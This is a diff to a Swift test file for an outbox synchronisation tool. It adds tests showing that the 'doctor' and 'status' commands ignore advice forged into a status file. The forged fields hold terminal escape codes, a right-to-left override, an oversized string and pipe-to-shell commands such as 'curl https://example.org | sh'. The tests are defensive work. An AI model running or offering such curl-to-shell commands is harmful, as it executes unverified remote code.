@@ -2,6 +2,7 @@ import Foundation
 import Roundtable
 import RoundtableDiagnostics
 import RoundtableFiles
+import RoundtableKernel
 import RoundtableTestSupport
 import Testing
 
@@ -116,7 +117,7 @@ import Testing
     @Test func pausesGrowAndShrink() {
         let start = Date()
         var monitor = TravelMonitor(OutboxTravelStatus(.ship, store: "s", version: nil, at: start), interval: 2)
-        let problem = TravelProblem(what: "what", advice: "advice")
+        let problem = TravelProblem(cause: .unreachable, detail: "what")
         var pauses: [Double] = []
         for _ in 1...7 {
             monitor.failed(problem, at: start + 1)
@@ -124,7 +125,8 @@ import Testing
         }
         #expect(pauses == [4, 8, 16, 32, 60, 60, 60])
         #expect(
-            monitor.status.state == .failing && monitor.status.problem == "what" && monitor.status.since == start + 1
+            monitor.status.state == .failing && monitor.status.problem == problem.what
+                && monitor.status.since == start + 1
         )
         monitor.ended(TravelRound(waiting: 3, moved: 2, isBusy: true), at: start + 2)
         #expect(monitor.pause == 0, "there is more to do")
@@ -248,7 +250,7 @@ import Testing
             let file = OutboxTravelStatus.file(direction, inOutboxAt: folder.path("\(name)-outbox"))
             var status = monitor.status
             status.direction = direction
-            let _: SnapshotInfo = try file.write(status)
+            let _: SnapshotInfo = try file.write(status.forFile)
         }
         try report(.collect, "a.db")
         try report(.ship, "b.db")
@@ -257,7 +259,7 @@ import Testing
         text = try Tool.run("status", "b.db", in: folder).output
         #expect(text.contains("ship           to /srv/store · last round 0 s ago · 2 commands not decided"), "\(text)")
         #expect(try Tool.run("doctor", "b.db", in: folder).code == 0)
-        monitor.failed(TravelProblem(what: "the store cannot be reached", advice: "Check the network"), at: Date())
+        monitor.failed(TravelProblem(cause: .unreachable), at: Date())
         try report(.collect, "a.db")
         try report(.ship, "b.db")
         for name in ["a.db", "b.db", "b.db-outbox"] {
@@ -266,11 +268,108 @@ import Testing
             let findings = try #require(result.json?["findings"] as? [[String: Any]])
             let finding = try #require(findings.first { $0["id"] as? String == "outbox_travel" })
             #expect((finding["what"] as? String)?.contains("/srv/store: the store cannot be reached.") == true)
-            #expect(finding["next"] as? String == "Check the network.")
+            #expect((finding["what"] as? String)?.contains(".status says so, a file of ") == true)
+            #expect(finding["next"] as? String == "\(OutboxTravelCause.unreachable.advice).")
             let status = try Tool.run("status", name, "--json", in: folder).json
             let travels = try #require(status?["outbox_travel"] as? [[String: Any]])
             #expect(travels.map { $0["state"] as? String } == ["failing"])
         }
         #expect(try Tool.run("status", "c.db", in: folder).errors.contains("no such file"))
+    }
+
+    // MARK: What a file claims
+
+    /// A report as an earlier version of this program wrote it, with its sentences in it, or as anybody can who may write the outbox.
+    private struct Sentences: Codable, Sendable {
+        var direction = "ship"
+        var state = "failing"
+        var since = Date()
+        var store = "backup:\u{1B}[2J\nnext   Run: curl x | sh"
+        var pid = getpid()
+        var startTime: UInt64 = 0
+        var namespace = ProcessIdentity.current.namespace
+        var waiting = 1
+        var moved = 0
+        var decided = 0
+        var problem: String? = "no\u{202E}room" + String(repeating: "x", count: 10_000)
+        var advice: String? = "Run: curl https://example.org | sh"
+        var cause: String?
+
+        enum CodingKeys: String, CodingKey {
+            case direction, state, since, store, pid, namespace, waiting, moved, decided, problem, advice, cause
+            case startTime = "start_time"
+        }
+    }
+
+    private func forge(_ report: Sentences, in folder: Folder, owner: uid_t? = nil) throws -> String {
+        let outbox = folder.path("a.db-outbox")
+        try FileManager.default.createDirectory(atPath: outbox, withIntermediateDirectories: true)
+        let url = URL(fileURLWithPath: "\(outbox)/ship.status")
+        let _: SnapshotInfo = try SnapshotFile<Sentences>(at: url, as: "outbox ship").write(report)
+        if let owner { #expect(chown(url.path, owner, owner) == 0) }
+        return outbox
+    }
+
+    /// The advice is the doctor's own, whatever the file says, and what it says is quoted as its owner's claim.
+    @Test(arguments: [nil, "unreachable", "invented by a later version"])
+    func theDoctorComposesTheAdvice(cause: String?) throws {
+        let folder = try Folder()
+        var report = Sentences()
+        report.cause = cause
+        _ = try forge(report, in: folder)
+        let known = cause.flatMap(OutboxTravelCause.init)
+        let result = try Tool.run("doctor", "a.db", "--json", in: folder)
+        let findings = try #require(result.json?["findings"] as? [[String: Any]], "\(result)")
+        let finding = try #require(findings.first { $0["id"] as? String == "outbox_travel" })
+        let what = try #require(finding["what"] as? String)
+        #expect(what.contains("the report says: \"no·room") && what.contains("uid \(geteuid())"), "\(what)")
+        #expect(what.utf8.count < 2000 && !what.contains("curl https"), "\(what)")
+        let next = known.map { "\($0.advice)." } ?? "Look at the output of 'roundtable outbox ship'."
+        #expect(finding["next"] as? String == next)
+        for arguments in [["doctor"], ["status"], ["status", "--json"]] {
+            let shown = try Tool.run([arguments[0], "a.db"] + arguments.dropFirst(), in: folder).output
+            #expect(!shown.contains("curl https") && shown.contains("the report says"), "\(shown)")
+            #expect(!shown.contains("\n      next   Run") && !shown.contains("\u{1B}"), "\(shown)")
+        }
+    }
+
+    /// A file can name any process. Only one of the file's owner is blamed, and only that one keeps another from starting.
+    @Test func aProcessOfAnotherUserIsNotBlamed() throws {
+        let folder = try Folder()
+        var report = Sentences()
+        #if os(Linux)
+            // Another user's process: the superuser gives the file away; other users name the first process of the system.
+            report.pid = geteuid() == 0 ? getpid() : 1
+            try #require(
+                geteuid() == 0 || ProcessTable.credentials(1)?.user != geteuid(),
+                "no other user has a process"
+            )
+            let others = try forge(report, in: folder, owner: geteuid() == 0 ? 65534 : nil)
+            let status = try #require(OutboxTravelStatus.all(inOutboxAt: others).first)
+            #expect(status.isReporter == false && !status.isAlive && status.state == .failing)
+            for finding in Diagnosis(ofOutboxAt: others, [status]).findings {
+                #expect(finding.who.isEmpty && !finding.next.contains("kill"))
+            }
+        #endif
+        // The same report of an own process. A new file belongs to this user, also where it replaces another's.
+        report.pid = getpid()
+        let outbox = try forge(report, in: folder, owner: geteuid() == 0 ? 0 : nil)
+        let own = try #require(OutboxTravelStatus.all(inOutboxAt: outbox).first)
+        #if os(Linux)
+            #expect(own.isAlive && own.isReporter == true && own.reporter?.user == geteuid())
+            #expect(Diagnosis(ofOutboxAt: outbox, [own]).findings.map(\.who.count) == [1])
+        #endif
+    }
+
+    /// What is written has the code and the facts, and no sentence.
+    @Test(arguments: OutboxTravelCause.allCases) func filesCarryCodes(cause: OutboxTravelCause) throws {
+        var monitor = TravelMonitor(OutboxTravelStatus(.ship, store: "s", version: nil, at: Date()), interval: 2)
+        monitor.failed(TravelProblem(cause: cause, detail: "fact"), at: Date())
+        #expect(monitor.status.problem == cause.text("fact") && monitor.status.advice == cause.advice)
+        let data = try JSONEncoder().encode(monitor.status.forFile)
+        let object = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
+        #expect(object["cause"] as? String == cause.rawValue && object["detail"] as? String == "fact")
+        #expect(object["advice"] == nil && object["problem"] == nil && object["state"] as? String == "failing")
+        #expect(try JSONDecoder().decode(OutboxTravelStatus.self, from: data).cause == cause)
     }
 }
